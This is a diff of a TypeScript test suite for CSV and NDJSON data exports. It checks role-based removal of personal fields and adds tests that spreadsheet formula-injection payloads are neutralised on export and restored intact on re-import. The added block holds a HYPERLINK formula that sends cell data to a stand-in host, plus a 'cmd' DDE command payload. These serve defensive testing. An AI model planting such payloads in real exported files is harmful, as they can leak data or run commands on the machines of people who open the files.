@@ -125,15 +125,15 @@ describe.each(DIALECTS)('exports on %s', (dialect) => {
       expect((await asExecutive('/export/metrics.csv?measures=contacts')).status).toBe(200);
     });
 
-    it('empties name and e-mail for a role without personal data, as GraphQL masks them', async () => {
+    it('leaves name and e-mail out for a role without personal data, as GraphQL masks them', async () => {
       const bi = await api.createKey(Role.BI);
       const response = await api.fetch('/export/customers.ndjson', {
         headers: { authorization: `Bearer ${bi}` },
       });
       const rows = await ndjson(response);
-      expect(rows.map((row) => [row.customer_id, row.name, row.email, row.birth_year])).toEqual([
-        ['A1', null, null, 1960],
-        ['A2', null, null, 1990],
+      expect(rows.map((row) => [row.customer_id, 'name' in row, 'email' in row, row.birth_year])).toEqual([
+        ['A1', false, false, 1960],
+        ['A2', false, false, 1990],
       ]);
     });
 
@@ -333,5 +333,137 @@ describe.each(DIALECTS)('exports on %s', (dialect) => {
       { period: '2026-01-01T00:00:00.000Z', channel: 'chat', nps: 100 / 3, npsResponses: 3 },
       { period: '2026-02-01T00:00:00.000Z', channel: 'email', nps: 100, npsResponses: 1 },
     ]);
+  });
+
+  describe('hostile text', () => {
+    // Formula payloads of the red-team pass, planted by an INGEST-role import.
+    const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"y")';
+    const CALC = "+cmd|' /C calc'!A0";
+    const SUM = '@SUM(1+1)';
+    const asRole = async (role: Role) => {
+      const key = await api.createKey(role);
+      return (path: string) => api.fetch(path, { headers: { authorization: `Bearer ${key}` } });
+    };
+    const text = async (response: Response) =>
+      new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
+
+    beforeAll(async () => {
+      await importRows('customers', [
+        {
+          customer_id: 'H1',
+          name: HYPERLINK,
+          email: 'h1@example.com',
+          birth_year: 1985,
+          signup_date: '2024-01-01',
+        },
+        { customer_id: 'H2', name: '-12.5', email: '@h2', birth_year: 1970, signup_date: '2024-01-01' },
+      ]);
+      await importRows('surveys', [
+        {
+          response_id: 'HR1',
+          customer_id: 'H1',
+          type: 'nps',
+          score: 0,
+          comment: CALC,
+          responded_at: '2024-03-01',
+        },
+      ]);
+      await importRows('contacts', [
+        { contact_id: 'HK1', customer_id: 'H1', channel: 'chat', reason: SUM, started_at: '2024-03-02' },
+      ]);
+    });
+
+    it('neutralises cells that would start a formula, in record and metric exports alike (OWASP)', async () => {
+      const customers = await text(await get('/export/customers.csv'));
+      // The quote-prefixed text is then quoted (RFC 4180) because it holds a quote and a comma.
+      expect(customers).toContain('H1,"\'=HYPERLINK(""http://x.example/?""&A1,""y"")",h1@example.com,1985');
+      // A plain number is a constant to a spreadsheet, not a formula: it stays as it is.
+      expect(customers).toContain("H2,-12.5,'@h2,1970,");
+      const surveys = await text(await get('/export/surveys.csv'));
+      expect(surveys).toContain("HR1,H1,nps,0,'+cmd|' /C calc'!A0,");
+      // An EXECUTIVE reaches an INGEST-planted reason through a metric table.
+      const executive = await asRole(Role.EXECUTIVE);
+      const metrics = await text(
+        await executive(
+          '/export/metrics.csv?measures=contacts&dimensions=REASON&from=2024-03-01&to=2024-04-01',
+        ),
+      );
+      expect(metrics).toBe("\uFEFFreason,contacts\r\n'@SUM(1+1),1\r\n");
+      // Negative metric values stay numbers: NPS of one detractor = 100 × (0 − 1) / 1 = −100.
+      const nps = await text(await get('/export/metrics.csv?measures=nps&from=2024-03-01&to=2024-04-01'));
+      expect(nps).toBe('\uFEFFnps\r\n-100\r\n');
+    });
+
+    it('re-imports a neutralised export as the text it was', async () => {
+      const ingest = new IngestService(api.database.orm.em.fork());
+      const csv = Readable.from([Buffer.from(await (await get('/export/customers.csv')).arrayBuffer())]);
+      const summary = await ingest.importRows('customers', readCsv(csv, RECORD_SPECS.customers));
+      expect(summary).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
+      const stored = await api.database.orm.em
+        .getConnection()
+        .execute<{ name: string | null; email: string | null }[]>(
+          "select name, email from customers where external_id in ('H1', 'H2') order by external_id",
+        );
+      expect(stored).toEqual([
+        { name: HYPERLINK, email: 'h1@example.com' },
+        { name: '-12.5', email: '@h2' },
+      ]);
+    });
+
+    it.each(['csv', 'ndjson'])(
+      'an export without personal data (BI) leaves the columns out, and its re-import keeps the stored names, e-mails and comments (%s)',
+      async (format) => {
+        const bi = await asRole(Role.BI);
+        const ingest = new IngestService(api.database.orm.em.fork());
+        const read = async (kind: RecordKind) => {
+          const body = Readable.from([
+            Buffer.from(await (await bi(`/export/${kind}.${format}`)).arrayBuffer()),
+          ]);
+          return format === 'csv' ? readCsv(body, RECORD_SPECS[kind]) : readNdjson(body);
+        };
+        const customers = await (await bi(`/export/customers.${format}`)).text();
+        expect(customers).not.toContain('h1@example.com');
+        if (format === 'csv')
+          expect(customers.split('\r\n')[0]).toBe(
+            'customer_id,birth_year,region,tier,lifetime_value,signup_date,churned_at',
+          );
+        const imported = await ingest.importRows('customers', await read('customers'));
+        expect(imported).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
+        const surveys = await ingest.importRows('surveys', await read('surveys'));
+        expect(surveys).toMatchObject({ problemCount: 0, inserted: 0, updated: 0 });
+        const connection = api.database.orm.em.getConnection();
+        expect(
+          await connection.execute("select name, email, generation from customers where external_id = 'H1'"),
+        ).toEqual([{ name: HYPERLINK, email: 'h1@example.com', generation: 'millennial' }]);
+        expect(
+          await connection.execute("select comment from survey_responses where external_id = 'HR1'"),
+        ).toEqual([{ comment: CALC }]);
+      },
+    );
+
+    it('a column a file leaves out keeps its stored value; an empty one clears it; a new row gets null', async () => {
+      const ingest = new IngestService(api.database.orm.em.fork());
+      const csv = (text: string) => readCsv(Readable.from([text]), RECORD_SPECS.customers);
+      const changed = await ingest.importRows(
+        'customers',
+        csv('customer_id,signup_date,birth_year,region\nH2,2024-01-01,1970,north\nH3,2024-02-01,1999,\n'),
+      );
+      expect(changed).toMatchObject({ problemCount: 0, inserted: 1, updated: 1 });
+      const rows = () =>
+        api.database.orm.em
+          .getConnection()
+          .execute(
+            "select external_id, name, email, region from customers where external_id in ('H2', 'H3') order by external_id",
+          );
+      expect(await rows()).toEqual([
+        { external_id: 'H2', name: '-12.5', email: '@h2', region: 'north' },
+        { external_id: 'H3', name: null, email: null, region: null },
+      ]);
+      await ingest.importRows(
+        'customers',
+        csv('customer_id,signup_date,birth_year,email\nH2,2024-01-01,1970,\n'),
+      );
+      expect((await rows())[0]).toEqual({ external_id: 'H2', name: '-12.5', email: null, region: 'north' });
+    });
   });
 });
